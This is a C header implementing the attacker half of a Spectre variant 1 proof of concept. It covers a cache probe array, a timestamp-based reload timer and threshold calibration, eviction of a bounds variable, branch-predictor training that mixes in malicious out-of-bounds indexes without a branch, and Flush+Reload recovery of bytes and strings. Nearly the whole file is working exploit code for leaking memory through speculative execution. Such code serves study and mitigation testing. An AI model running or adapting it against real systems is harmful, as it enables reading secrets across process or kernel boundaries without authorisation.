/* flush_reload.h - the attacker's half of the Spectre programs
 * (spectre_user.c, spectre_v1.c): the probe array, the reload timer and
 * its threshold, and the recovery of one byte by training a victim with
 * in-bounds indexes, calling it out of bounds, and timing the probe. */
#ifndef SPECTRE_FLUSH_RELOAD_H
#define SPECTRE_FLUSH_RELOAD_H

#include <stddef.h>
#include <stdint.h>
#include <x86intrin.h>

static uint8_t probe[256 * 512] __attribute__((aligned(4096)));
static uint64_t threshold;

static uint64_t probe_time(volatile uint8_t *p)
{
    unsigned aux;
    uint64_t t0 = __rdtscp(&aux);
    (void)*p;
    return __rdtscp(&aux) - t0;
}

/* Halfway between a cached and a flushed line's reload time, as this CPU
 * (or cycle model) measures them. */
static void calibrate(void)
{
    uint64_t hit = 0, miss = 0;
    for (int i = 0; i < 256 * 512; i++)
        probe[i] = 1;
    for (int i = 0; i < 16; i++) {
        volatile uint8_t *p = &probe[i * 512];
        (void)*p;
        hit += probe_time(p);
        _mm_clflush((const void *)p);
        _mm_mfence();
        miss += probe_time(p);
    }
    threshold = (hit + miss) / 32;
}

/* Evicts the line of a user-space bound (an attacker evicts it by filling
 * its cache set; CLFLUSH is the short way), waits, and stops any wrong
 * path of the waiting loop's own branch from running into the gadget and
 * loading the bound back. */
static void evict_user_bound(const void *bound)
{
    _mm_clflush(bound);
    for (volatile int z = 0; z < 20; z++)
        ;
    _mm_lfence();
}

typedef struct victim {
    void (*call)(size_t x);     /* the gadget: touches probe[v[x] * 512] */
    void (*evict)(void);        /* before each call: the bound leaves the cache */
    size_t nvalid;              /* indexes 0..nvalid-1 are in bounds */
    int (*value)(size_t x);     /* what an in-bounds x reads (not counted) */
} victim;

/* Flush+Reload of the byte at index malicious_x: the value whose probe
 * line was fast most often over 20 rounds, or -1. */
static int read_byte(const victim *v, size_t malicious_x)
{
    int hits[256] = {0};
    for (int tries = 0; tries < 20; tries++) {
        for (int i = 0; i < 256; i++)
            _mm_clflush(&probe[i * 512]);
        size_t training_x = (size_t)tries % v->nvalid;
        for (int j = 29; j >= 0; j--) {
            if (v->evict)
                v->evict();
            /* x = training_x, except every 6th round malicious_x, without
             * a branch the predictor could learn */
            size_t x = ((size_t)(j % 6) - 1) & ~(size_t)0xffff;
            x = (x | (x >> 16));
            x = training_x ^ (x & (malicious_x ^ training_x));
            v->call(x);
        }
        for (int i = 0; i < 256; i++) {
            int mix = ((i * 167) + 13) & 255; /* no stride a prefetcher follows */
            if (probe_time(&probe[mix * 512]) <= threshold && mix != v->value(training_x))
                hits[mix]++;
        }
    }
    int best = 0;
    for (int i = 1; i < 256; i++)
        if (hits[i] > hits[best])
            best = i;
    return hits[best] ? best : -1;
}

/* n bytes from malicious_x on into out (printable, '?' where nothing
 * stood out), NUL-terminated. */
static void read_string(const victim *v, size_t malicious_x, char *out, size_t n)
{
    for (size_t i = 0; i < n; i++) {
        int b = read_byte(v, malicious_x + i);
        out[i] = b >= 32 && b < 127 ? (char)b : '?';
    }
    out[n] = 0;
}

#endif
